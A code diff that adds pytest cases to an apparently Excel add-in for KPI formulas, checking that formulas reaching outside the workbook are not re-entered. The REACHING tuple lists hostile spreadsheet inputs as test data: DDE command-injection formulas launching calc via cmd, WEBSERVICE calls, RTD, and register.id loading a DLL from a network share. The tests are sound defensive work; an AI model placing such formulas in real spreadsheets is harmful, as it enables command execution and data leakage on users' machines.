@@ -64,6 +64,7 @@ CALLS = {
     "=kpi_aov(A1,B1)": "=kpi_aov(A1,B1)",
     "=SUM(1,-KPI_AOV(1,2),{1,2})": "=SUM(1,-KPI_AOV(1,2),{1,2})",
 }
+OWN_LINK = (r"='C:\other.xlam'!KPI_AOV(1)+KPI_CSAT(1,2)",)
 OTHERS = (
     "=A1+B1", "KPI_AOV(A1,B1) is a function", '="KPI_AOV("&A1', "=KPI_AOV", "=MY_KPI_AOV(A1,B1)", "=MYKPI_AOV(A1)",
     "=KPI_MINE(A1)", "=[1]!KPI_MINE(A1)", "=éKPI_AOV(A1)", "=_xlfn.KPI_AOV(A1)", "=ORG.OTHER.KPI_AOV(A1)",
@@ -77,6 +78,27 @@ DUAL = (
     '=IFERROR(_xludf.KPI_BENCHMARK("x","aov",C1,"en",Benchmarks!$C$5:$I$9),IF(C1>Benchmarks!$I$5,"Good",""))',
     "=IFERROR(KPI_CONSULTATIONS(B2:M2),SUM(B2:M2))", "=IFERROR(KPI_AOV(T[[#This Row],[a]],2),T[[#This Row],[a]]/2)",
 )  # fmt: skip
+
+
+REACHING = (
+    r"='\\server\share\[x.xlsx]Sheet1'!A1+KPI_AOV(1,2)", "=_xludf.KPI_AOV([1]Sheet1!A1,2)", "=KPI_AOV([2]!rate,2)",
+    "=KPI_AOV('[Book 1.xlsx]Sheet 1'!A1,2)", "=KPI_AOV(1,2)+cmd|'/c calc'!A0", "=KPI_AOV(1,2)+'cmd|/c calc'!A0",
+    '=KPI_AOV(_xlfn.WEBSERVICE("https://example.com/"&A1),2)', '=KPI_AOV(1,2)+RTD("a.b",,"c")',
+    r'=KPI_AOV(1,2)+register.id("\\server\share\x.dll","f")', r"='C:\other.xlam'!KPI_AOV(1)+[1]!KPI_CSAT(1,2)",
+)  # fmt: skip
+"""Entered by us, these would ask a server, a program or a library before the user has agreed to it."""
+
+
+@pytest.mark.parametrize("formula", REACHING)
+def test_a_formula_that_reaches_out_of_its_workbook_is_not_entered(reader: MemoryExcel, formula: str) -> None:
+    assert reader.run("ToEnter", formula, NAMES) == ""
+
+
+@pytest.mark.parametrize(
+    "formula", [*CALLS.values(), "=KPI_AOV(T[[#This Row],[a]],2)", "=KPI_AOV('a, b'!A1,Mine!B2)", '=KPI_AOV("a|b",2)']
+)
+def test_all_others_are(reader: MemoryExcel, formula: str) -> None:
+    assert reader.run("ToEnter", formula, NAMES) == ("" if formula in OWN_LINK else formula)
 
 
 @pytest.mark.parametrize("formula", CALLS)
@@ -98,6 +120,7 @@ def test_a_workbook_is_entered_again_where_it_calls_us_and_nowhere_else(excel: M
     cells = {
         "A1": 10, "B1": 4, "C1": BARE, "D1": "=A1+B1", "E1": "=_xludf.KPI_AOV(A1,B1)*2", "F1": '="KPI_AOV("&A1',
         "A2": "KPI_AOV(", "B2": OLD_PATH, "C2": "=KPI_MINE(A1)", "D9": "=IFERROR(_xludf.KPI_AOV(A1,B1),A1/B1)",
+        "E9": REACHING[0],
     }  # fmt: skip
     book = opened(excel, tmp_path, {"Mine": cells, "Nothing": {}, "No formula": {"A1": 1}, "One": {"B7": BARE}})
     excel.run("EnterFormulasAgain", book)
